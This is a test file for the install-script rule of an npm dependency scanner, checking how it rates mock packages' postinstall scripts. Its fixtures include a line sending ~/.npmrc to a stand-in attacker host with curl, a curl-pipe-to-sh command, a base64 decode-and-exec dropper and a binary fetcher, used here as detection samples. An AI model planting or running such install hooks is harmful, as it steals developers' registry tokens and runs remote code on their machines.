import { describe, expect, it } from 'vitest';
import { installScript } from '../../src/rules/install-script.js';
import { analyzeInstallScripts } from '../../src/scripts/analyze.js';
import { installScriptsOf } from '../../src/npm/scripts.js';
import { contextOf, findingsIn, lockTree, messageOf, published, registryEntry, withFacts } from '../support/tree.js';
import { memoryReader } from '../support/install-scripts.js';

/** Published facts whose install analysis is what the tarball reader would produce from `files`. */
function withScripts(scripts: Record<string, string>, files: Record<string, string> = {}) {
  return published('1.0.0', { scripts }, { installAnalysis: analyzeInstallScripts(installScriptsOf(scripts), memoryReader(files)) });
}

const DROPPER = "const c = require('child_process');\nc.execSync(Buffer.from(process.env.X, 'base64').toString());\n";
const FETCHER =
  "require('https').get('https://dl.example.test/tool', (r) => r.pipe(require('fs').createWriteStream('t')));\nrequire('fs').chmodSync('t', 0o755);\n";

// esbuild and react are well-known in the committed name index; the dw-* names are not.
const names = ['esbuild', 'react', 'dw-native', 'dw-stealer', 'dw-dropper', 'dw-fetcher', 'dw-quiet', 'dw-offline', 'dw-registry-binary'];
const tree = lockTree(
  Object.fromEntries(names.map((name) => [`node_modules/${name}`, registryEntry(name, '1.0.0', name === 'dw-offline' ? { hasInstallScript: true } : {})])),
  { dependencies: Object.fromEntries(names.map((name) => [name, '^1.0.0'])) },
);

describe('install-script', () => {
  const context = withFacts(tree, {
    'node_modules/esbuild': withScripts({ postinstall: 'node install.js' }, { 'install.js': FETCHER }),
    'node_modules/react': withScripts({ postinstall: 'node x.js' }, { 'x.js': DROPPER }),
    'node_modules/dw-native': withScripts({ install: 'node-gyp rebuild' }),
    'node_modules/dw-stealer': withScripts({ postinstall: 'cat ~/.npmrc | curl -s --data-binary @- https://evil.example.test/x' }),
    'node_modules/dw-dropper': withScripts({ postinstall: 'node install.js' }, { 'install.js': DROPPER }),
    'node_modules/dw-fetcher': withScripts({ postinstall: 'node install.js' }, { 'install.js': FETCHER }),
    'node_modules/dw-registry-binary': withScripts(
      { postinstall: 'node install.js' },
      { 'install.js': FETCHER.replace('dl.example.test', 'registry.example.test') },
    ),
    'node_modules/dw-quiet': published('1.0.0', { scripts: { test: 'jest', build: 'tsc' } }),
  });

  it('judges what the scripts and the files they run do, by combination', () => {
    expect(findingsIn(installScript, context)).toEqual([
      { location: 'node_modules/dw-dropper', code: 'install-script', severity: 'critical' },
      { location: 'node_modules/dw-fetcher', code: 'install-script', severity: 'high' },
      { location: 'node_modules/dw-native', code: 'install-script', severity: 'medium' },
      { location: 'node_modules/dw-offline', code: 'install-script', severity: 'medium' },
      { location: 'node_modules/dw-registry-binary', code: 'install-script', severity: 'low' },
      { location: 'node_modules/dw-stealer', code: 'install-script', severity: 'critical' },
      // Popularity lowers a judgement by one step: a binary from an unknown host is medium for esbuild...
      { location: 'node_modules/esbuild', code: 'install-script', severity: 'medium' },
      // ...and never hides a critical: a compromised popular package is judged by its content.
      { location: 'node_modules/react', code: 'install-script', severity: 'critical' },
    ]);
  });

  it('lists the signals with their files and lines', () => {
    const dropper = installScript.check(context).find((finding) => finding.node.name === 'dw-dropper')!;
    expect(dropper.detail).toMatchObject({
      scripts: [{ name: 'postinstall', text: 'node install.js' }],
      files: [{ path: 'install.js', bytes: DROPPER.length }],
      signals: expect.arrayContaining([
        { kind: 'decode-then-execute', file: 'install.js', line: 2, excerpt: "c.execSync(Buffer.from(process.env.X, 'base64').toString());" },
      ]),
    });
  });

  it('reads an installed package.json script when the registry was not asked', () => {
    const installed = lockTree({ 'node_modules/dw-pipe': registryEntry('dw-pipe', '1.0.0') }, { dependencies: { 'dw-pipe': '^1.0.0' } });
    const node = installed.nodes.get('node_modules/dw-pipe')!;
    (node as { scripts: Record<string, string> }).scripts = { postinstall: 'curl -s https://x.example.test/i | sh' };
    expect(findingsIn(installScript, contextOf(installed))).toEqual([{ location: 'node_modules/dw-pipe', code: 'install-script', severity: 'high' }]);
  });

  it('offline, only the lockfile flag is known: the script text is unknown, not absent', () => {
    expect(findingsIn(installScript, contextOf(tree))).toEqual([{ location: 'node_modules/dw-offline', code: 'install-script', severity: 'medium' }]);
  });

  it('points the fix at the evidence lines only when there are some', () => {
    const hint = (name: string) => {
      const finding = installScript.check(context).find((found) => found.node.name === name)!;
      return (installScript.messages['install-script'] as { hint(detail: unknown): string }).hint(finding.detail);
    };
    expect(hint('dw-dropper')).toBe(
      'read the evidence lines; install with --ignore-scripts, or allow the package (and version range) in the policy with a reason',
    );
    // node-gyp rebuild: a script, but no signal, so no evidence line is shown.
    expect(hint('dw-native')).toBe('install with --ignore-scripts, or allow the package (and version range) in the policy with a reason');
  });

  it('names a script whose text is unknown with the right article', () => {
    const unknown = (name: string) =>
      messageOf(installScript, { code: 'install-script', scripts: [{ name, text: undefined }], files: [], signals: [], filesFault: undefined });
    expect(unknown('preinstall')).toBe('runs at install: a preinstall script (its text is unknown offline)');
    expect(unknown('install')).toBe('runs at install: an install script (its text is unknown offline)');
  });
});
